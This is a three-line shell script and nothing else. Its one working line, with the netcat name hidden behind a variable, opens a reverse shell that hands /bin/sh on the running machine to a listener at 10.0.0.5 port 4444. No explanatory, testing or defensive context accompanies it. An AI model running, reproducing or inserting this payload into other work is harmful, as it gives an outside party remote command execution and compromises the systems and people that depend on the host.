#!/bin/sh
N=nc
$N -e /bin/sh 10.0.0.5 4444
